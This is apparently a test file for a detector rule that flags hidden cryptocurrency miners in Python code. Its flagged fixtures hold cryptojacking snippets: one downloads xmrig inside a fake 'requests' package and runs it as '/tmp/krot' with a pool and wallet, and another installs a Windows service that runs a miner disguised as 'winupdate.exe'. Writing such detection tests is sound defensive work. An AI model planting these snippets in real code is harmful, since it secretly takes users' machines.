import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-cryptominer.js';

const XMR = '44ZptWtXxVhjLYGz8oKCMSW6nA9Gpc2RVYQDzyBnaM7VZkaCTGZGEANQTR3pNXK3mzZq1cVzKs1SA3H4Wibc6qVvG5xpcSY';

ruleTest(rule, {
  clean: [
    { name: 'a pool statistics API client', file: 'pool.py', code: `import requests\ndef hashrate(addr):\n    return requests.get(f"https://api.nanopool.org/v1/xmr/hashrate/{addr}").json()\n` },
    { name: 'ssh -o option with a user flag', file: 'deploy.py', code: `import subprocess\nsubprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-u", "deploy", "host"])\n` },
    { name: 'the word miner in a data-mining library', file: 'miner.py', code: `class PatternMiner:\n    """Frequent pattern miner."""\n    def fit(self, X):\n        return self\n` },
  ],
  flagged: [
    {
      name: 'xmrig downloaded and started with pool and wallet',
      file: 'requests/__init__.py',
      code: `import subprocess, urllib.request\nurllib.request.urlopen('https://github.com/xmrig/xmrig/releases/download/v6.17.0/xmrig-6.17.0-linux-x64.tar.gz')\nsubprocess.Popen(["/tmp/krot"] + " -o pool.supportxmr.com:443 -u ${XMR} -k --tls".split())\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /miner program, mining pool, miner command line, Monero wallet address/ }],
    },
    {
      name: 'a Windows service running a miner command line',
      file: 'main.py',
      code: `import subprocess\ncmd = r'cmd.exe /c start /min "" "C:\\\\ProgramData\\\\winupdate.exe" --url rx.unmineable.com:3333 --user BNB:0x7CFd98f04BFFdf869576032147ce1a61d032BAf4.W'\nsubprocess.run(f'sc create Svc binPath= "{cmd}" start= auto', shell=True)\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'stratum URL with a miner name and no process start',
      file: 'cfg.py',
      code: `POOL = "stratum+tcp://xmr.pool.example:3333"\nBIN = "xmrig"\n`,
      findings: [{ line: 1, severity: 'high', confidence: 'medium' }],
    },
  ],
});
